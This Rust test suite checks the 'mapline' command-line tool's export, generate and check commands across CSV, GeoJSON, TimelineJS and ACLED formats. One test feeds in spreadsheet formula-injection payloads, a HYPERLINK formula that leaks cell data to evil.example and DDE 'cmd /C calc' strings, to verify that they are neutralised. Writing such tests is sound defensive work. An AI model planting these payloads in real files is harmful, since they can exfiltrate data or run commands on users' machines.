//! The `mapline` command itself: `export` in every format, `check` on
//! imported files.
#![allow(clippy::unwrap_used, clippy::expect_used, missing_docs)]

use std::process::Command;

fn mapline(args: &[&str]) -> (bool, String, String) {
    let out = Command::new(env!("CARGO_BIN_EXE_mapline"))
        .args(args)
        .output()
        .unwrap();
    (
        out.status.success(),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[test]
fn export_writes_all_four_formats_of_the_embedded_dataset() {
    let tmp = tempfile::tempdir().unwrap();
    for (format, name) in [
        ("csv", "view.csv"),
        ("geojson", "view.geojson"),
        ("timelinejs", "view.json"),
        ("native", "view"),
    ] {
        let out = tmp.path().join(name);
        let (ok, stdout, stderr) = mapline(&["export", "--format", format, out.to_str().unwrap()]);
        assert!(ok, "{format}: {stderr}");
        assert!(stdout.contains("wrote 46 events"), "{format}: {stdout}");
        // Each export opens again as a dataset with the same events.
        let (ok, summary, stderr) = mapline(&["check", out.to_str().unwrap()]);
        if format == "csv" {
            // CSV is for spreadsheets: mapline does not read its own CSV back.
            assert!(!ok);
            assert!(summary.contains("not a format mapline reads"), "{summary}");
        } else {
            assert!(ok, "{format} reads back: {summary}{stderr}");
            assert!(summary.contains("46 events"), "{format}: {summary}");
        }
    }
    let text = std::fs::read_to_string(tmp.path().join("view.geojson")).unwrap();
    let parsed: geojson::GeoJson = text.parse().unwrap();
    let geojson::GeoJson::FeatureCollection(fc) = parsed else {
        panic!("a FeatureCollection")
    };
    let events = fc
        .features
        .iter()
        .filter(|f| f.property("feature").and_then(|v| v.as_str()) == Some("event"))
        .count();
    assert_eq!(events, 46);
    let csv_rows = std::fs::read_to_string(tmp.path().join("view.csv"))
        .unwrap()
        .lines()
        .count();
    assert!(csv_rows > 46, "a header and a row per event");
}

#[test]
fn export_takes_a_time_window_and_an_imported_file() {
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("2022.json");
    let (ok, stdout, stderr) = mapline(&[
        "export",
        "--format",
        "timelinejs",
        "--from",
        "2022-07",
        "--to",
        "2022-09",
        out.to_str().unwrap(),
    ]);
    assert!(ok, "{stderr}");
    let n: usize = stdout
        .split_whitespace()
        .nth(1)
        .and_then(|w| w.parse().ok())
        .unwrap();
    assert!(n > 0 && n < 46, "{stdout}");
    // An imported file as PATH.
    let fixture = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/fixtures/acled/albania-2022.csv"
    );
    let out = tmp.path().join("acled.geojson");
    let (ok, stdout, stderr) = mapline(&[
        "export",
        "--format",
        "geojson",
        fixture,
        out.to_str().unwrap(),
    ]);
    assert!(ok, "{stderr}");
    assert!(stdout.contains("wrote 10 events"), "{stdout}");
    // A bad window is refused before anything is written.
    let bad = tmp.path().join("bad.csv");
    let (ok, _, stderr) = mapline(&[
        "export",
        "--format",
        "csv",
        "--from",
        "2022-13",
        bad.to_str().unwrap(),
    ]);
    assert!(!ok);
    assert!(stderr.contains("--from \"2022-13\""), "{stderr}");
    assert!(!bad.exists());
}

/// `mapline generate --format acled|timelinejs` writes files that open as
/// that format, with every row or slide an event; the same seed writes the
/// same bytes.
#[test]
fn generate_writes_acled_and_timelinejs_files_that_open() {
    let tmp = tempfile::tempdir().unwrap();
    for (format, name, shown) in [
        ("acled", "gen.csv", "(ACLED): ok"),
        ("timelinejs", "gen.json", ": ok"),
    ] {
        let out = tmp.path().join(name);
        let path = out.to_str().unwrap();
        let (ok, stdout, stderr) = mapline(&[
            "generate", "--format", format, "--events", "700", "--out", path,
        ]);
        assert!(ok, "{format}: {stderr}");
        assert!(stdout.starts_with("wrote 700 "), "{stdout}");
        let first = std::fs::read(&out).unwrap();
        let (ok, summary, stderr) = mapline(&["check", path]);
        assert!(ok, "{format}: {summary}{stderr}");
        assert!(
            summary.lines().next().unwrap().ends_with(shown),
            "{summary}"
        );
        assert!(summary.contains(" 700 events"), "{summary}");
        let (ok, _, _) = mapline(&[
            "generate", "--format", format, "--events", "700", "--out", path,
        ]);
        assert!(ok);
        assert_eq!(
            std::fs::read(&out).unwrap(),
            first,
            "{format}: deterministic"
        );
    }
    // The ACLED file has ACLED's 25 columns and notes with quoted commas and
    // line breaks, as real exports do.
    let csv = std::fs::read_to_string(tmp.path().join("gen.csv")).unwrap();
    let header = csv.lines().next().unwrap();
    assert_eq!(header.split(',').count(), 25, "{header}");
    assert!(header.starts_with("event_id_cnty,event_date,year,time_precision"));
    assert!(csv.contains("\"\"no to poverty, no to war\"\""));
    assert!(csv.contains(".\nA second report"));
}

/// The cells of a CSV file (after a byte order mark, if any).
fn csv_rows(bytes: &[u8]) -> Vec<Vec<String>> {
    let bytes = bytes.strip_prefix("\u{feff}".as_bytes()).unwrap_or(bytes);
    csv::Reader::from_reader(bytes)
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

#[test]
fn csv_cells_a_spreadsheet_would_run_are_neutralised_unless_raw() {
    let tmp = tempfile::tempdir().unwrap();
    let input = tmp.path().join("hostile.json");
    let headline = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    let text = "+cmd|' /C calc'!A0";
    let file = serde_json::json!({
        "events": [{
            "start_date": {"year": "2022", "month": "7", "day": "15"},
            "text": {"headline": headline, "text": text}
        }, {
            "start_date": {"year": "2022", "month": "9", "day": "7"},
            "text": {"headline": "@SUM(1+1)*cmd|' /C calc'!A0", "text": "-2+3+cmd|' /C calc'!A0"}
        }]
    });
    std::fs::write(&input, serde_json::to_vec(&file).unwrap()).unwrap();
    let out = tmp.path().join("out.csv");
    let (ok, _, stderr) = mapline(&[
        "export",
        "--format",
        "csv",
        input.to_str().unwrap(),
        out.to_str().unwrap(),
    ]);
    assert!(ok, "{stderr}");
    let rows = csv_rows(&std::fs::read(&out).unwrap());
    let cells: Vec<&String> = rows.iter().flatten().collect();
    assert!(
        cells.iter().any(|c| **c == format!("'{headline}")),
        "{rows:?}"
    );
    assert!(cells.iter().any(|c| c.starts_with("'+cmd")), "{rows:?}");
    assert!(cells.iter().any(|c| c.starts_with("'@SUM")), "{rows:?}");
    assert!(cells.iter().any(|c| c.starts_with("'-2+3")), "{rows:?}");
    for c in &cells {
        assert!(
            !c.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a cell a spreadsheet would run: {c:?}"
        );
    }
    // --csv-raw writes them as they are.
    let (ok, _, stderr) = mapline(&[
        "export",
        "--format",
        "csv",
        "--csv-raw",
        input.to_str().unwrap(),
        out.to_str().unwrap(),
    ]);
    assert!(ok, "{stderr}");
    let rows = csv_rows(&std::fs::read(&out).unwrap());
    let cells: Vec<&String> = rows.iter().flatten().collect();
    assert!(cells.iter().any(|c| **c == headline), "{rows:?}");
    assert!(cells.iter().any(|c| **c == text), "{rows:?}");
}

#[test]
fn negative_coordinates_stay_numbers_and_excel_csv_keeps_every_script() {
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("view.csv");
    let (ok, _, stderr) = mapline(&["export", "--format", "csv", out.to_str().unwrap()]);
    assert!(ok, "{stderr}");
    let plain = std::fs::read(&out).unwrap();
    assert!(
        !plain.starts_with("\u{feff}".as_bytes()),
        "plain UTF-8 by default"
    );
    let rows = csv_rows(&plain);
    let lon = mapline::io::csv::HEADER
        .iter()
        .position(|h| *h == "lon")
        .unwrap();
    let negative: Vec<&str> = rows
        .iter()
        .map(|r| r[lon].as_str())
        .filter(|l| l.starts_with('-'))
        .collect();
    assert!(!negative.is_empty(), "Washington lies west of Greenwich");
    assert!(
        negative.iter().all(|l| l.parse::<f64>().is_ok()),
        "{negative:?}"
    );

    // A Persian title, for spreadsheets: a byte order mark, CRLF, intact.
    let input = tmp.path().join("persian.json");
    let title = "قطع روابط دیپلماتیک آلبانی با ایران — Shqipëria";
    let file = serde_json::json!({
        "events": [{
            "start_date": {"year": "2022", "month": "9", "day": "7"},
            "text": {"headline": title}
        }]
    });
    std::fs::write(&input, serde_json::to_vec(&file).unwrap()).unwrap();
    let (ok, _, stderr) = mapline(&[
        "export",
        "--format",
        "csv",
        "--excel",
        input.to_str().unwrap(),
        out.to_str().unwrap(),
    ]);
    assert!(ok, "{stderr}");
    let bytes = std::fs::read(&out).unwrap();
    assert!(
        bytes.starts_with("\u{feff}".as_bytes()),
        "a byte order mark"
    );
    assert!(bytes.windows(2).any(|w| w == b"\r\n"), "CRLF line ends");
    assert!(!bytes.windows(2).any(|w| w[1] == b'\n' && w[0] != b'\r'));
    let rows = csv_rows(&bytes);
    assert!(rows.iter().flatten().any(|c| c == title), "{rows:?}");
}

#[test]
fn generate_acled_takes_locations_countries_and_note_lengths() {
    let dir = tempfile::tempdir().unwrap();
    let shaped = dir.path().join("shaped.csv");
    let (ok, out, err) = mapline(&[
        "generate",
        "--format",
        "acled",
        "--events",
        "3000",
        "--locations",
        "120",
        "--countries",
        "3",
        "--notes",
        "100-400",
        "--out",
        shaped.to_str().unwrap(),
    ]);
    assert!(ok, "{err}");
    assert!(out.contains("3000 ACLED rows at 120 locations"), "{out}");
    let mut r = csv::Reader::from_path(&shaped).unwrap();
    let headers = r.headers().unwrap().clone();
    let col = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let (loc, country, notes) = (col("location"), col("country"), col("notes"));
    let mut locations = std::collections::HashSet::new();
    let mut countries = std::collections::HashSet::new();
    let mut rows = 0;
    for rec in r.records() {
        let rec = rec.unwrap();
        rows += 1;
        locations.insert(rec[loc].to_owned());
        countries.insert(rec[country].to_owned());
        let n = rec[notes].chars().count();
        // A note finishes its last word and may carry a quoted phrase and a second sentence.
        assert!((100..=500).contains(&n), "a note of {n} characters");
    }
    assert_eq!(rows, 3000);
    assert!(
        locations.len() <= 120 && locations.len() > 100,
        "{} locations",
        locations.len()
    );
    assert!(countries.len() <= 3, "{countries:?}");
    // The default shape is the bench's file, byte for byte.
    let a = dir.path().join("a.csv");
    let b = dir.path().join("b.csv");
    assert!(
        mapline(&[
            "generate",
            "--format",
            "acled",
            "--events",
            "500",
            "--out",
            a.to_str().unwrap()
        ])
        .0
    );
    mapline::io::acled::generate::generate(&b, 500, 1).unwrap();
    assert_eq!(std::fs::read(&a).unwrap(), std::fs::read(&b).unwrap());
    let (ok, _, err) = mapline(&[
        "generate",
        "--format",
        "acled",
        "--events",
        "5",
        "--notes",
        "400-100",
        "--out",
        a.to_str().unwrap(),
    ]);
    assert!(!ok && err.contains("MIN must be at most MAX"), "{err}");
}

/// A USGS-style feed of one quake at `time` (a JSON value), in `dir`.
fn quake_feed(dir: &std::path::Path, time: &str) -> String {
    let path = dir.join("feed.geojson");
    std::fs::write(
        &path,
        format!(
            r#"{{"type": "FeatureCollection", "features": [{{"type": "Feature", "id": "q1",
  "geometry": {{"type": "Point", "coordinates": [19.8, 41.3, 5]}},
  "properties": {{"title": "M 4.0 - Tirana", "place": "Tirana", "mag": 4.0, "time": {time}}}}}]}}"#
        ),
    )
    .unwrap();
    path.to_str().unwrap().to_owned()
}

#[test]
fn check_says_which_epoch_unit_it_took_and_time_unit_overrides_it() {
    let usgs = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/fixtures/usgs/quakes-epoch.geojson"
    );
    let (ok, stdout, stderr) = mapline(&["check", usgs]);
    assert!(ok, "{stdout}{stderr}");
    assert!(stdout.contains("4 events"), "{stdout}");
    assert!(
        stdout.contains("time span: 2017-01-21 to 2020-01-01"),
        "{stdout}"
    );
    let said: Vec<&str> = stdout
        .lines()
        .filter(|l| l.contains("Unix epoch numbers"))
        .collect();
    assert_eq!(
        said,
        [format!(
            "    {usgs}:17:13: dataset: warning: 4 time(s) are Unix epoch numbers, read as milliseconds by their size (10^11 or more is milliseconds): the first, 1485030412340, is 2017-01-21T20:26:52Z; --time-unit s reads them as seconds"
        )],
        "once for the file: {stdout}"
    );
    // Told: the same dataset, nothing guessed, nothing said.
    let (ok, told, _) = mapline(&["check", "--time-unit", "ms", usgs]);
    assert!(
        ok && told.contains("time span: 2017-01-21 to 2020-01-01"),
        "{told}"
    );
    assert!(!told.contains("Unix epoch"), "{told}");
    // Told wrong: every time is past the year 9999, each said where it stands.
    let (ok, wrong, stderr) = mapline(&["check", "--time-unit", "s", usgs]);
    assert!(!ok);
    assert_eq!(stderr, "mapline check: 4 error(s)\n");
    assert!(
        wrong.lines().next().unwrap().ends_with(
            ":17:13: feature 1 (id ml0001): time 1485030412340 is out of range: as Unix epoch seconds it is past the year 9999 (a date-time has the years 0000 to 9999)"
        ),
        "{wrong}"
    );

    // Epoch seconds are taken as seconds; told milliseconds, they are 1970.
    let tmp = tempfile::tempdir().unwrap();
    let feed = quake_feed(tmp.path(), "1485030412");
    let (ok, auto, _) = mapline(&["check", &feed]);
    assert!(
        ok && auto.contains("time span: 2017-01-21 to 2017-01-21"),
        "{auto}"
    );
    assert!(
        auto.contains("1 time(s) are Unix epoch numbers, read as seconds by their size (under 10^11 is seconds): the first, 1485030412, is 2017-01-21T20:26:52Z; --time-unit ms reads them as milliseconds"),
        "{auto}"
    );
    let (ok, ms, _) = mapline(&["check", "--time-unit", "ms", &feed]);
    assert!(
        ok && ms.contains("time span: 1970-01-18 to 1970-01-18"),
        "{ms}"
    );
    // The other commands that open a file take it too.
    let out = tmp.path().join("out.geojson");
    let (ok, _, stderr) = mapline(&[
        "export",
        "--format",
        "geojson",
        "--time-unit",
        "ms",
        &feed,
        out.to_str().unwrap(),
    ]);
    assert!(ok, "{stderr}");
    let written = std::fs::read_to_string(&out).unwrap();
    assert!(
        written.contains("\"time\": \"1970-01-18T04:30:30Z\""),
        "{written}"
    );
    let (ok, _, stderr) = mapline(&["check", "--time-unit", "hours", &feed]);
    assert!(
        !ok && stderr.contains("possible values: s, ms, auto"),
        "{stderr}"
    );
}
